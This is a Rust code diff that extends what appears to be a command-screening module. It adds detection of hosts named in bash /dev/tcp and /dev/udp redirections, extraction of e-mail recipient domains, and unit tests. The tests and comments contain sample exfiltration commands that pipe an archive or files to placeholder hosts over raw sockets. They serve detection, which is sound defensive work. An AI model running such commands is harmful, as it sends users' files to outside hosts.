@@ -215,6 +215,29 @@ static CONN_HOST: LazyLock<Regex> = LazyLock::new(|| {
         .expect("static regex")
 });
 
+/// The host bash's network redirections open (`cat f > /dev/tcp/203.0.113.9/8443`,
+/// `exec 3<>/dev/tcp/drop.example.net/443`).
+static DEV_TCP: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(r#"/dev/(?:tcp|udp)/(\[[0-9A-Fa-f:.]+\]|[0-9A-Fa-f:]*:[0-9A-Fa-f:.]+|[A-Za-z0-9][A-Za-z0-9\-]*(?:\.[A-Za-z0-9\-]+)*)/\d{1,5}\b"#)
+        .expect("static regex")
+});
+
+/// An e-mail address; its domain is group 1.
+static EMAIL: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(r#"[A-Za-z0-9._%+\-]+@([A-Za-z0-9](?:[A-Za-z0-9\-]*[A-Za-z0-9])?(?:\.[A-Za-z0-9](?:[A-Za-z0-9\-]*[A-Za-z0-9])?)*\.[A-Za-z]{2,})"#)
+        .expect("static regex")
+});
+
+/// True when `pred` holds for the domain of an e-mail address the value
+/// names (`abe@proton.me`, a JSON list of them, `"Abe" <abe@proton.me>`).
+pub(crate) fn any_email_domain(text: &str, mut pred: impl FnMut(&str) -> bool) -> bool {
+    text.contains('@')
+        && EMAIL
+            .captures_iter(text)
+            .filter_map(|c| c.get(1))
+            .any(|d| pred(d.as_str()))
+}
+
 /// Flags whose quoted value is a payload or a message, not a destination:
 /// hosts named inside it (`-d '{"url": "https://..."}'`, `-m 'see https://...'`,
 /// `-H 'Origin: https://...'`) are not where the command sends anything.
@@ -331,7 +354,8 @@ fn is_local_ip(ip: IpAddr) -> bool {
 /// every scp/rsync style `user@host:path` destination, the host an `sftp`
 /// or `ssh` connects to, the endpoint of the storage account an `az
 /// storage` command names, the host a script opens a connection to
-/// (`HTTPSConnection('host')`), and every host
+/// (`HTTPSConnection('host')`), the host of a bash `/dev/tcp/HOST/PORT`
+/// redirection, and every host
 /// written without a scheme but with a path or a port
 /// (`paste.example.net/api`, `203.0.113.5 4444`) in it (a command line).
 /// In a command line, hosts inside a quoted payload or message
@@ -406,6 +430,16 @@ pub(crate) fn any_host(text: &str, mut pred: impl FnMut(&str) -> bool) -> bool {
             let host = format!("{}.{service}.core.windows.net", account.as_str());
             if !in_payload(account.start()) && pred(&host) {
                 return true;
+            }
+        }
+    }
+    if t.contains("/dev/") {
+        for c in DEV_TCP.captures_iter(t) {
+            if let Some(m) = c.get(1) {
+                let host = m.as_str().trim_start_matches('[').trim_end_matches(']');
+                if !in_payload(m.start()) && pred(host) {
+                    return true;
+                }
             }
         }
     }
@@ -704,6 +738,46 @@ mod tests {
             vec!["drop.evil.net"]
         );
         assert_eq!(extract_hosts("aws s3 cp f s3://bucket/x"), vec!["bucket"]);
+    }
+
+    #[test]
+    fn bash_network_redirections_name_their_host() {
+        assert_eq!(
+            extract_hosts("tar cz ~/work | cat > /dev/tcp/198.51.100.23/8443"),
+            ["198.51.100.23"]
+        );
+        assert_eq!(
+            extract_hosts("exec 3<>/dev/tcp/drop.example.net/443; cat x.tgz >&3"),
+            ["drop.example.net"]
+        );
+        assert_eq!(
+            extract_hosts("cat f > /dev/udp/[2001:db8::7]/53"),
+            ["2001:db8::7"]
+        );
+        assert!(extract_hosts("ls /dev/tcp").is_empty());
+    }
+
+    #[test]
+    fn mail_recipients_name_their_domain() {
+        let domains = |t: &str| {
+            let mut out = Vec::new();
+            any_email_domain(t, |d| {
+                out.push(d.to_string());
+                false
+            });
+            out
+        };
+        assert_eq!(domains("abe.archive@proton.me"), ["proton.me"]);
+        assert_eq!(
+            domains(r#"["cfo@Tidewater-Eng.com", "Abe <abe+x@mail.example.org>"]"#),
+            ["Tidewater-Eng.com", "mail.example.org"]
+        );
+        assert_eq!(
+            domains(r#"[{"emailAddress": {"address": "ops@partner.example"}}]"#),
+            ["partner.example"]
+        );
+        assert!(domains("no recipient").is_empty());
+        assert!(domains("@handle").is_empty());
     }
 
     #[test]
